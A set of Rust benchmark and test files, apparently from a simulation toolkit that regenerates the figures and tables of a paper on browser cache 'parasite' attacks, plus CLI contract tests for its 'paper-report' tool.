    pub fn clear_origin(&mut self, origin: &str) {
        self.data.remove(origin);
    }

    /// Clears everything (clear site data).
    pub fn clear_all(&mut self) {
        self.data.clear();
    }

    /// Returns `true` if no origin has any data.
    pub fn is_empty(&self) -> bool {
        self.data.values().all(BTreeMap::is_empty)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn set_get_remove_round_trip() {
        let mut storage = OriginStorage::new();
        storage.set_item("https://bank.example", "last_account", "DE89 3704 0044 0532 0130 00");
        assert_eq!(
            storage.get_item("https://bank.example", "last_account"),
            Some("DE89 3704 0044 0532 0130 00")
        );
        assert_eq!(storage.get_item("https://mail.example", "last_account"), None);
        storage.remove_item("https://bank.example", "last_account");
        assert_eq!(storage.get_item("https://bank.example", "last_account"), None);
    }

    #[test]
    fn dump_is_scoped_to_the_origin() {
        let mut storage = OriginStorage::new();
        storage.set_item("https://a.example", "k1", "v1");
        storage.set_item("https://a.example", "k2", "v2");
        storage.set_item("https://b.example", "secret", "other");
        let dump = storage.dump_origin("https://a.example");
        assert_eq!(dump.len(), 2);
        assert!(dump.iter().all(|(k, _)| k.starts_with('k')));
        assert_eq!(storage.len_for("https://b.example"), 1);
    }

    #[test]
    fn clears_are_scoped_and_total() {
        let mut storage = OriginStorage::new();
        storage.set_item("https://a.example", "k", "v");
        storage.set_item("https://b.example", "k", "v");
        storage.clear_origin("https://a.example");
        assert_eq!(storage.len_for("https://a.example"), 0);
        assert_eq!(storage.len_for("https://b.example"), 1);
        storage.clear_all();
        assert!(storage.is_empty());
    }
}
