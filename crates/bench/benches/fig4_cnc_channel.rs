//! Regenerates Figure 4 (C&C covert channel) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::fig4_cnc_channel().render());
    let mut group = c.benchmark_group("fig4_cnc_channel");
    group.sample_size(10);
    group.bench_function("fig4_cnc_channel", |b| b.iter(|| criterion::black_box(parasite::experiments::fig4_cnc_channel())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
