//! Regenerates Figure 4 (C\&C covert channel characterisation) and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};
use parasite::experiments::{ExperimentId, Registry, RunConfig};

fn bench(c: &mut Criterion) {
    let experiment = Registry::get(ExperimentId::Fig4);
    let config = RunConfig::default();
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", experiment.run(&config).render_text());
    let mut group = c.benchmark_group("fig4_cnc_channel");
    group.sample_size(10);
    group.bench_function("fig4_cnc_channel", |b| b.iter(|| criterion::black_box(experiment.run(&config))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
