//! Regenerates the countermeasure ablation of Section VIII of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::ablation_defenses().render());
    let mut group = c.benchmark_group("ablation_defenses");
    group.sample_size(10);
    group.bench_function("ablation_defenses", |b| b.iter(|| criterion::black_box(parasite::experiments::ablation_defenses())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
