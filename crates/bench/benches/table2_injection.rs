//! Regenerates Table II (OS x browser TCP injection matrix) and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};
use parasite::experiments::{ExperimentId, Registry, RunConfig};

fn bench(c: &mut Criterion) {
    let experiment = Registry::get(ExperimentId::Table2);
    let config = RunConfig::default();
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", experiment.run(&config).render_text());
    let mut group = c.benchmark_group("table2_injection");
    group.sample_size(10);
    group.bench_function("table2_injection", |b| b.iter(|| criterion::black_box(experiment.run(&config))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
