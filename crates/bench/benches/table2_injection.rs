//! Regenerates Table II (TCP injection OS x browser matrix) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::table2_injection_matrix().render());
    let mut group = c.benchmark_group("table2_injection");
    group.sample_size(10);
    group.bench_function("table2_injection", |b| b.iter(|| criterion::black_box(parasite::experiments::table2_injection_matrix())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
