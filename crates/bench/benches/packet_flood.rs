//! Packet-flood microbenchmark for the simulator hot path.
//!
//! Floods one client→server connection with pipelined requests (the server
//! answering each with an MSS-sized response) and measures how many simulator
//! events per second the transmit → trace → deliver path sustains under each
//! trace recorder mode. `cargo bench -p mp-bench --bench packet_flood` prints
//! an explicit events/sec line per mode (best of three passes over a 10k
//! request flood, after a warm-up run) before the criterion timings, times an
//! unsharded and a sharded campaign-fleet sweep, and writes the whole set of
//! numbers to `BENCH_packet_flood.json` so CI can archive the perf trajectory
//! and gate on regressions against a rolling same-runner baseline.

use criterion::{criterion_group, criterion_main, Criterion};
use mp_netsim::addr::IpAddr;
use mp_netsim::capture::TraceMode;
use mp_netsim::link::MediumKind;
use mp_netsim::sim::{FixedResponder, Simulator};
use mp_netsim::time::Duration;
use parasite::experiments::{
    run_campaign_shard, ExperimentId, Registry, RunConfig, RunCtx, ShardOutcome, ShardPlan,
};
use parasite::json::{Json, ToJson};

/// Flood size for the criterion timings (kept small so the statistical run
/// stays fast).
const REQUESTS: usize = 2_000;

/// Flood size for the explicit events/sec measurement: large enough that one
/// pass runs for tens of milliseconds, drowning scheduling noise.
const MEASURE_REQUESTS: usize = 10_000;

/// Throughput passes per mode; the best is reported (standard practice for a
/// canary: the minimum-interference pass is the one that measures the code).
const MEASURE_PASSES: usize = 3;

/// Builds the flood world, pushes `requests` pipelined requests through it and
/// returns the number of events the simulator processed.
fn flood(requests: usize, mode: TraceMode) -> u64 {
    let mut sim = Simulator::new(7).with_trace_mode(mode);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    let client = sim.add_host("victim", IpAddr::new(10, 0, 0, 2), wifi);
    let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    let response = vec![b'x'; 1_400];
    sim.set_service(server, Box::new(FixedResponder::new(response, Duration::from_micros(100))));

    let conn = sim.connect(client, server, 80).expect("hosts exist");
    sim.run_until_idle().expect("flood stays within the event budget");
    for _ in 0..requests {
        sim.send(client, conn, b"GET /flood HTTP/1.1\r\nHost: flood.example\r\n\r\n")
            .expect("established");
    }
    sim.run_until_idle().expect("flood stays within the event budget");
    sim.events_processed()
}

/// Best events/sec over [`MEASURE_PASSES`] floods of [`MEASURE_REQUESTS`].
fn measure(mode: TraceMode) -> (u64, f64) {
    let mut events = 0u64;
    let mut best = 0f64;
    for _ in 0..MEASURE_PASSES {
        let start = std::time::Instant::now();
        events = flood(MEASURE_REQUESTS, mode);
        let rate = events as f64 / start.elapsed().as_secs_f64();
        best = best.max(rate);
    }
    (events, best)
}

/// Times one campaign-fleet sweep (20k clients over 32 APs — a CI-sized
/// stand-in for the million-client run) and returns `(seconds, events)`.
fn fleet_timing(shards: usize, days: u32, churn: f64) -> (f64, u64) {
    let config = RunConfig {
        fleet_clients: 20_000,
        fleet_aps: 32,
        fleet_shards: shards,
        fleet_jobs: 1,
        fleet_days: days,
        fleet_churn: churn,
        ..RunConfig::default()
    };
    let start = std::time::Instant::now();
    let artifact = Registry::get(ExperimentId::CampaignFleet).run(&config);
    let seconds = start.elapsed().as_secs_f64();
    let events = artifact
        .data
        .as_campaign_fleet()
        .expect("campaign artifact")
        .total_events;
    (seconds, events)
}

/// Times the same multi-day campaign as `fleet_multiday_5d`, decomposed
/// into shard runs executed concurrently on scoped threads and merged back
/// into the fleet result — the in-process cost model of `paper-report
/// distribute` (without the per-assignment process spawn), so the shard
/// decomposition's overhead over the fused loop rides the trajectory file.
fn fleet_distributed_timing(workers: usize, days: u32, churn: f64) -> (f64, u64) {
    let config = RunConfig {
        fleet_clients: 20_000,
        fleet_aps: 32,
        fleet_jobs: 1,
        fleet_days: days,
        fleet_churn: churn,
        ..RunConfig::default()
    };
    let start = std::time::Instant::now();
    let plans = ShardPlan::split(&config, workers);
    let outcomes: Vec<ShardOutcome> = std::thread::scope(|scope| {
        let handles: Vec<_> = plans
            .iter()
            .map(|plan| {
                let config = &config;
                scope.spawn(move || {
                    run_campaign_shard(config, *plan, &RunCtx::default()).expect("shard runs")
                })
            })
            .collect();
        handles.into_iter().map(|handle| handle.join().expect("shard thread")).collect()
    });
    let merged = outcomes
        .into_iter()
        .reduce(|left, right| left.merge(right).expect("disjoint shards merge"))
        .expect("at least one shard");
    let result = merged.into_fleet_result(&config).expect("full coverage");
    let seconds = start.elapsed().as_secs_f64();
    (seconds, result.total_events)
}

/// Times one attack-surface sweep (a CI-sized grid: 4 vectors x 6 delays,
/// 64 race trials per cell) and returns `(seconds, events)`.
fn surface_timing() -> (f64, u64) {
    let config = RunConfig {
        surface_trials: 64,
        surface_delay_steps: 6,
        fleet_jobs: 1,
        ..RunConfig::default()
    };
    let start = std::time::Instant::now();
    let artifact = Registry::get(ExperimentId::AttackSurface).run(&config);
    let seconds = start.elapsed().as_secs_f64();
    let events = artifact
        .data
        .as_attack_surface()
        .expect("surface artifact")
        .total_events;
    (seconds, events)
}

const MODES: [(&str, TraceMode); 3] = [
    ("full_trace", TraceMode::Full),
    ("ring_1024", TraceMode::Ring(1024)),
    ("summary_only", TraceMode::SummaryOnly),
];

fn bench(c: &mut Criterion) {
    // Warm-up: fault in the binary and the allocator before measuring.
    let _ = flood(REQUESTS, TraceMode::SummaryOnly);

    // Explicit throughput lines: events per wall-clock second per mode.
    let mut mode_entries: Vec<(&str, Json)> = Vec::new();
    for (label, mode) in MODES {
        let (events, rate) = measure(mode);
        println!("packet_flood/{label}: {events} events ({rate:.0} events/sec)");
        mode_entries.push((
            label,
            Json::obj([
                ("events", events.to_json()),
                ("events_per_sec", rate.to_json()),
            ]),
        ));
    }

    // Fleet timing: the campaign experiment end to end — unsharded,
    // seed-sweep sharded and the multi-day churn loop — so the JSON artifact
    // tracks population-scale cost alongside raw hot-path throughput.
    let mut fleet_entries: Vec<(&str, Json)> = Vec::new();
    for (label, shards, days, churn) in [
        ("fleet_unsharded", 1usize, 1u32, 0.0f64),
        ("fleet_sharded_4", 4, 1, 0.0),
        ("fleet_multiday_5d", 1, 5, 0.2),
    ] {
        let (seconds, events) = fleet_timing(shards, days, churn);
        println!(
            "packet_flood/{label}: {events} events in {seconds:.3}s ({:.0} events/sec)",
            events as f64 / seconds
        );
        fleet_entries.push((
            label,
            Json::obj([
                ("shards", shards.to_json()),
                ("days", days.to_json()),
                ("churn", churn.to_json()),
                ("clients", 20_000u64.to_json()),
                ("aps", 32u64.to_json()),
                ("seconds", seconds.to_json()),
                ("events", events.to_json()),
                ("events_per_sec", (events as f64 / seconds).to_json()),
            ]),
        ));
    }

    // The distributed decomposition of the same 5-day campaign: three
    // shards on concurrent threads, merged — tracks what the shard refactor
    // costs (or saves) against the fused fleet_multiday_5d loop above.
    let (dist_seconds, dist_events) = fleet_distributed_timing(3, 5, 0.2);
    println!(
        "packet_flood/fleet_distributed: {dist_events} events in {dist_seconds:.3}s ({:.0} events/sec)",
        dist_events as f64 / dist_seconds
    );
    fleet_entries.push((
        "fleet_distributed",
        Json::obj([
            ("workers", 3u64.to_json()),
            ("days", 5u32.to_json()),
            ("churn", 0.2f64.to_json()),
            ("clients", 20_000u64.to_json()),
            ("aps", 32u64.to_json()),
            ("seconds", dist_seconds.to_json()),
            ("events", dist_events.to_json()),
            ("events_per_sec", (dist_events as f64 / dist_seconds).to_json()),
        ]),
    ));

    // Surface timing: the attack-surface grid end to end, so the sweep's
    // cost rides the same trajectory file as the fleet numbers.
    let (surface_seconds, surface_events) = surface_timing();
    println!(
        "packet_flood/surface_sweep: {surface_events} events in {surface_seconds:.3}s ({:.0} events/sec)",
        surface_events as f64 / surface_seconds
    );
    let surface_entry = Json::obj([
        ("vectors", 4u64.to_json()),
        ("delay_steps", 6u64.to_json()),
        ("trials", 64u64.to_json()),
        ("seconds", surface_seconds.to_json()),
        ("events", surface_events.to_json()),
        ("events_per_sec", (surface_events as f64 / surface_seconds).to_json()),
    ]);

    // Machine-readable artifact for CI (uploaded per run; the workflow
    // hard-fails if summary_only regresses >20% against a rolling baseline
    // cached per runner class, and prints an advisory note against the
    // committed dev-machine reference in crates/bench/baselines/). Cargo
    // runs benches with the package as working directory, so anchor the path
    // at the workspace root where CI expects it.
    let report = Json::obj([
        ("bench", "packet_flood".to_json()),
        ("measure_requests", (MEASURE_REQUESTS as u64).to_json()),
        ("modes", Json::obj(mode_entries)),
        ("fleet", Json::obj(fleet_entries)),
        ("surface", Json::obj([("surface_sweep", surface_entry)])),
    ]);
    let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../BENCH_packet_flood.json");
    if let Err(error) = std::fs::write(&path, format!("{report}\n")) {
        eprintln!("warning: could not write {}: {error}", path.display());
    }

    let mut group = c.benchmark_group("packet_flood");
    group.sample_size(10);
    for (label, mode) in MODES {
        group.bench_function(label, |b| b.iter(|| criterion::black_box(flood(REQUESTS, mode))));
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
