//! Packet-flood microbenchmark for the simulator hot path.
//!
//! Floods one client→server connection with pipelined requests (the server
//! answering each with an MSS-sized response) and measures how many simulator
//! events per second the transmit → trace → deliver path sustains under each
//! trace recorder mode. `cargo bench -p mp-bench --bench packet_flood` prints
//! an explicit events/sec line per mode before the criterion timings.

use criterion::{criterion_group, criterion_main, Criterion};
use mp_netsim::addr::IpAddr;
use mp_netsim::capture::TraceMode;
use mp_netsim::link::MediumKind;
use mp_netsim::sim::{FixedResponder, Simulator};
use mp_netsim::time::Duration;

const REQUESTS: usize = 2_000;

/// Builds the flood world, pushes `REQUESTS` pipelined requests through it and
/// returns the number of events the simulator processed.
fn flood(requests: usize, mode: TraceMode) -> u64 {
    let mut sim = Simulator::new(7).with_trace_mode(mode);
    let wifi = sim.add_medium(MediumKind::SharedWireless, 2_000);
    let wan = sim.add_medium(MediumKind::WideArea, 40_000);
    let client = sim.add_host("victim", IpAddr::new(10, 0, 0, 2), wifi);
    let server = sim.add_host("server", IpAddr::new(203, 0, 113, 10), wan);
    sim.listen(server, 80);
    let response = vec![b'x'; 1_400];
    sim.set_service(server, Box::new(FixedResponder::new(response, Duration::from_micros(100))));

    let conn = sim.connect(client, server, 80).expect("hosts exist");
    sim.run_until_idle().expect("flood stays within the event budget");
    for _ in 0..requests {
        sim.send(client, conn, b"GET /flood HTTP/1.1\r\nHost: flood.example\r\n\r\n")
            .expect("established");
    }
    sim.run_until_idle().expect("flood stays within the event budget");
    sim.events_processed()
}

const MODES: [(&str, TraceMode); 3] = [
    ("full_trace", TraceMode::Full),
    ("ring_1024", TraceMode::Ring(1024)),
    ("summary_only", TraceMode::SummaryOnly),
];

fn bench(c: &mut Criterion) {
    // Explicit throughput lines: events per wall-clock second per mode.
    for (label, mode) in MODES {
        let start = std::time::Instant::now();
        let events = flood(REQUESTS, mode);
        let elapsed = start.elapsed();
        println!(
            "packet_flood/{label}: {} events in {:?} ({:.0} events/sec)",
            events,
            elapsed,
            events as f64 / elapsed.as_secs_f64()
        );
    }

    let mut group = c.benchmark_group("packet_flood");
    group.sample_size(10);
    for (label, mode) in MODES {
        group.bench_function(label, |b| b.iter(|| criterion::black_box(flood(REQUESTS, mode))));
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
