//! Regenerates Table I (cache eviction per browser) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::table1_cache_eviction(1000).render());
    let mut group = c.benchmark_group("table1_eviction");
    group.sample_size(10);
    group.bench_function("table1_eviction", |b| b.iter(|| criterion::black_box(parasite::experiments::table1_cache_eviction(1000))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
