//! Regenerates Table V (application attacks) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::table5_attacks().render());
    let mut group = c.benchmark_group("table5_attacks");
    group.sample_size(10);
    group.bench_function("table5_attacks", |b| b.iter(|| criterion::black_box(parasite::experiments::table5_attacks())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
