//! Regenerates Figure 5 (CSP statistics and adoption numbers) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::fig5_csp_stats(5000, 2021).render());
    let mut group = c.benchmark_group("fig5_csp_stats");
    group.sample_size(10);
    group.bench_function("fig5_csp_stats", |b| b.iter(|| criterion::black_box(parasite::experiments::fig5_csp_stats(5000, 2021))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
