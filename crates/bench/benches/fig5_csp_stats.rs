//! Regenerates Figure 5 (CSP / HSTS / TLS policy scan) and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};
use parasite::experiments::{ExperimentId, Registry, RunConfig};

fn bench(c: &mut Criterion) {
    let experiment = Registry::get(ExperimentId::Fig5);
    let config = RunConfig { sites: 5_000, ..RunConfig::default() };
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", experiment.run(&config).render_text());
    let mut group = c.benchmark_group("fig5_csp_stats");
    group.sample_size(10);
    group.bench_function("fig5_csp_stats", |b| b.iter(|| criterion::black_box(experiment.run(&config))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
