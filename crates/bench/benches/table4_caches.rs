//! Regenerates Table IV (caches in the wild) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::table4_caches().render());
    let mut group = c.benchmark_group("table4_caches");
    group.sample_size(10);
    group.bench_function("table4_caches", |b| b.iter(|| criterion::black_box(parasite::experiments::table4_caches())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
