//! Regenerates Table III (refresh methods vs Cache-API parasites) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::table3_refresh_methods().render());
    let mut group = c.benchmark_group("table3_refresh");
    group.sample_size(10);
    group.bench_function("table3_refresh", |b| b.iter(|| criterion::black_box(parasite::experiments::table3_refresh_methods())));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
