//! Regenerates Figure 3 (object persistency over 100 days) of the paper and benchmarks the runner.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    // Print the regenerated artefact once, so `cargo bench` output contains
    // the paper-shaped rows alongside the timing.
    println!("{}", parasite::experiments::fig3_persistency(1500, 100, 2021).render());
    let mut group = c.benchmark_group("fig3_persistency");
    group.sample_size(10);
    group.bench_function("fig3_persistency", |b| b.iter(|| criterion::black_box(parasite::experiments::fig3_persistency(1500, 100, 2021))));
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
