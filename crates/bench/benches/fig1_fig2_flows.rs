//! Regenerates the message flows of Figures 1 and 2 and benchmarks the
//! packet-level injection race they are built from.

use criterion::{criterion_group, criterion_main, Criterion};

fn bench(c: &mut Criterion) {
    println!("{}", parasite::experiments::fig1_eviction_flow().render());
    println!("{}", parasite::experiments::fig2_infection_flow().render());
    let mut group = c.benchmark_group("fig1_fig2_flows");
    group.sample_size(10);
    group.bench_function("fig2_injection_race", |b| {
        b.iter(|| criterion::black_box(parasite::experiments::run_injection_race(7)))
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
