//! Regenerates the message flows of Figures 1 and 2 and benchmarks the
//! packet-level injection race they are built from.

use criterion::{criterion_group, criterion_main, Criterion};
use parasite::experiments::{run_injection_race, ExperimentId, Registry, RunConfig};

fn bench(c: &mut Criterion) {
    let config = RunConfig::default();
    println!("{}", Registry::get(ExperimentId::Fig1).run(&config).render_text());
    println!("{}", Registry::get(ExperimentId::Fig2).run(&config).render_text());
    let mut group = c.benchmark_group("fig1_fig2_flows");
    group.sample_size(10);
    group.bench_function("fig2_injection_race", |b| {
        b.iter(|| criterion::black_box(run_injection_race(7)))
    });
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
