//! CLI contract of `paper-report`: bad flag combinations must exit with
//! code 2 and a pointed diagnostic, never run with silently inert flags —
//! an extension flag without its experiment selected used to parse fine and
//! then do nothing, masking typos and misread sweeps.

use std::process::Command;

fn paper_report(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_paper-report"))
        .args(args)
        .output()
        .expect("paper-report spawns")
}

/// Runs `paper-report` with `args`, asserting exit code 2 and that the
/// diagnostic names the offending flag.
fn assert_rejected(args: &[&str], expected_in_stderr: &str) {
    let output = paper_report(args);
    assert_eq!(
        output.status.code(),
        Some(2),
        "args {args:?} should be a usage error; stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains(expected_in_stderr),
        "args {args:?}: stderr {stderr:?} does not mention {expected_in_stderr:?}"
    );
}

#[test]
fn inert_fleet_flags_without_campaign_fleet_are_rejected() {
    assert_rejected(&["--fleet-hetero"], "--fleet-hetero");
    assert_rejected(&["--fleet-clients", "1000"], "--only campaign_fleet");
    assert_rejected(&["--fleet-days", "5", "--only", "fig2"], "--fleet-days");
    assert_rejected(&["--fleet-shards", "4", "--only", "attack_surface"], "--fleet-shards");
}

#[test]
fn inert_surface_flags_without_attack_surface_are_rejected() {
    assert_rejected(&["--surface-trials", "16"], "--only attack_surface");
    assert_rejected(
        &["--surface-vectors", "race_vs_csp", "--only", "campaign_fleet"],
        "--surface-vectors",
    );
    assert_rejected(&["--surface-delays", "300:1000:2", "--only", "fig1"], "--surface-delays");
    assert_rejected(&["--surface-adoption", "3"], "--surface-adoption");
}

#[test]
fn inert_churn_and_checkpoint_combos_are_rejected() {
    // --fleet-churn on a single-snapshot campaign does nothing.
    assert_rejected(
        &["--fleet-churn", "0.2", "--only", "campaign_fleet"],
        "--fleet-days",
    );
    // --fleet-checkpoint without the multi-day loop (and without the
    // campaign selected at all) is refused, not ignored.
    assert_rejected(
        &["--fleet-checkpoint", "x.json", "--only", "campaign_fleet"],
        "--fleet-days",
    );
    assert_rejected(&["--fleet-checkpoint", "x.json"], "--only campaign_fleet");
    // Shared flags need at least one consuming experiment.
    assert_rejected(&["--jitter-us", "200"], "campaign_fleet / attack_surface");
}

#[test]
fn malformed_surface_axes_are_rejected() {
    let surface = ["--only", "attack_surface"];
    assert_rejected(&[&surface[..], &["--surface-delays", "300:200:4"]].concat(), "inverted");
    assert_rejected(&[&surface[..], &["--surface-delays", "300-200-4"]].concat(), "start:end:steps");
    assert_rejected(&[&surface[..], &["--surface-trials", "0"]].concat(), "--surface-trials");
    assert_rejected(&[&surface[..], &["--surface-adoption", "0"]].concat(), "--surface-adoption");
    assert_rejected(
        &[&surface[..], &["--surface-vectors", "race_vs_nothing"]].concat(),
        "unknown attack vector",
    );
    // The WAN-latency axis follows the same contract as the delay axis.
    assert_rejected(&[&surface[..], &["--surface-wan", "9000:3000:2"]].concat(), "inverted");
    assert_rejected(&[&surface[..], &["--surface-wan", "9000-3000-2"]].concat(), "start:end:steps");
    assert_rejected(&[&surface[..], &["--surface-wan", "3000:9000:0"]].concat(), "at least 1");
    assert_rejected(&["--surface-wan", "3000:9000:2"], "--only attack_surface");
}

#[test]
fn visit_probability_needs_a_multiday_campaign() {
    // Outside [0, 1] (and exactly 0, which would freeze the campaign).
    let fleet = ["--only", "campaign_fleet", "--fleet-days", "5"];
    assert_rejected(&[&fleet[..], &["--fleet-visit-prob", "1.5"]].concat(), "(0, 1]");
    assert_rejected(&[&fleet[..], &["--fleet-visit-prob", "0"]].concat(), "(0, 1]");
    // Inert without the multi-day loop, or without the campaign at all.
    assert_rejected(
        &["--only", "campaign_fleet", "--fleet-visit-prob", "0.5"],
        "--fleet-days",
    );
    assert_rejected(&["--fleet-visit-prob", "0.5"], "--only campaign_fleet");
}

#[test]
fn distribute_flags_outside_the_subcommand_are_rejected() {
    // The coordinator's scheduling knobs mean nothing in batch mode; point
    // at the distribute subcommand instead of ignoring them.
    assert_rejected(&["--journal", "/tmp/j"], "distribute");
    assert_rejected(&["--shard-timeout", "30"], "distribute");
    assert_rejected(&["--retry-limit", "2"], "distribute");
}

#[test]
fn malformed_distribute_values_are_rejected() {
    let campaign = [
        "distribute",
        "--only",
        "campaign_fleet",
        "--fleet-clients",
        "2000",
        "--fleet-aps",
        "4",
        "--fleet-days",
        "3",
        "--fleet-churn",
        "0.2",
    ];
    assert_rejected(&[&campaign[..], &["--retry-limit", "many"]].concat(), "--retry-limit");
    assert_rejected(&[&campaign[..], &["--retry-limit"]].concat(), "requires a value");
    assert_rejected(&[&campaign[..], &["--shard-timeout", "soon"]].concat(), "--shard-timeout");
    assert_rejected(&[&campaign[..], &["--journal"]].concat(), "requires a value");
}

#[test]
fn service_flags_outside_a_subcommand_are_rejected() {
    // Service flags mean nothing in batch mode; point at the subcommands
    // instead of ignoring them.
    assert_rejected(&["--socket", "/tmp/mp.sock"], "use a subcommand");
    assert_rejected(&["--tcp", "127.0.0.1:7071"], "use a subcommand");
    assert_rejected(&["--serve-workers", "4"], "use a subcommand");
    assert_rejected(&["--watch"], "service client flag");
    assert_rejected(&["--run", "3"], "service client flag");
}

#[test]
fn service_subcommand_usage_errors_are_pointed() {
    assert_rejected(&["serve"], "--socket");
    assert_rejected(&["serve", "--socket", "/tmp/x.sock", "--fleet-days", "5"], "submit");
    assert_rejected(&["submit"], "--socket");
    assert_rejected(&["status"], "--socket");
    assert_rejected(&["watch", "--socket", "/tmp/x.sock", "--bogus"], "--bogus");
    assert_rejected(
        &["submit", "--socket", "/tmp/x.sock", "--only", "fig1", "--jobs", "4"],
        "--serve-workers",
    );
    assert_rejected(
        &["submit", "--socket", "/tmp/x.sock", "--only", "fig1,fig2"],
        "exactly one experiment",
    );
}

#[test]
fn client_subcommands_without_a_daemon_exit_2_with_a_hint() {
    let socket = std::env::temp_dir()
        .join(format!("mp-cli-no-daemon-{}.sock", std::process::id()));
    let socket = socket.to_str().expect("utf-8 temp path");
    // No daemon is listening: every client subcommand fails to connect with
    // exit 2 and points at how to start one.
    assert_rejected(&["submit", "--socket", socket, "--only", "fig1"], "is the daemon running?");
    assert_rejected(&["status", "--socket", socket], "paper-report serve --socket");
    assert_rejected(&["watch", "--socket", socket, "--run", "1"], "is the daemon running?");
    assert_rejected(&["cancel", "--socket", socket, "--run", "1"], "is the daemon running?");
    assert_rejected(&["shutdown", "--socket", socket], "is the daemon running?");
}

#[test]
fn lint_usage_errors_exit_2_with_the_lint_usage_hint() {
    // Unknown lint flags are refused with the lint subcommand's own usage
    // block, not the batch-mode usage.
    assert_rejected(&["lint", "--bogus"], "unknown lint flag \"--bogus\"");
    assert_rejected(&["lint", "--bogus"], "paper-report lint [--json]");
    assert_rejected(&["lint", "--fix"], "unknown lint flag \"--fix\"");
    // --root needs its directory argument, and the directory must be a
    // workspace root (Cargo.toml + crates/).
    assert_rejected(&["lint", "--root"], "requires a directory");
    let empty = std::env::temp_dir().join(format!("mp-lint-not-a-root-{}", std::process::id()));
    std::fs::create_dir_all(&empty).expect("temp dir");
    assert_rejected(
        &["lint", "--root", empty.to_str().expect("utf-8 temp path")],
        "workspace root",
    );
    let _ = std::fs::remove_dir_all(&empty);
}

#[test]
fn lint_runs_clean_on_this_workspace_and_emits_json() {
    // The shipped workspace must lint clean through the public CLI — the
    // same contract CI enforces with a blocking job.
    let root = concat!(env!("CARGO_MANIFEST_DIR"), "/../..");
    let output = paper_report(&["lint", "--json", "--root", root]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "lint found diagnostics:\n{}",
        String::from_utf8_lossy(&output.stdout)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("\"clean\":true"));
    assert!(stdout.contains("\"seed_tags\""));
    assert!(stdout.contains("SHARD_TAG"));
}

#[test]
fn valid_extension_combos_run_and_exit_zero() {
    // The same flags accept once their experiment is selected: a tiny
    // surface grid runs to completion with exit code 0 and JSON output.
    let output = paper_report(&[
        "--only",
        "attack_surface",
        "--surface-trials",
        "4",
        "--surface-delays",
        "300:1000:2",
        "--surface-adoption",
        "2",
        "--surface-vectors",
        "race_vs_csp",
        "--json",
    ]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "stderr: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("\"attack_surface\""));
    assert!(stdout.contains("\"success_vs_delay\""));
}
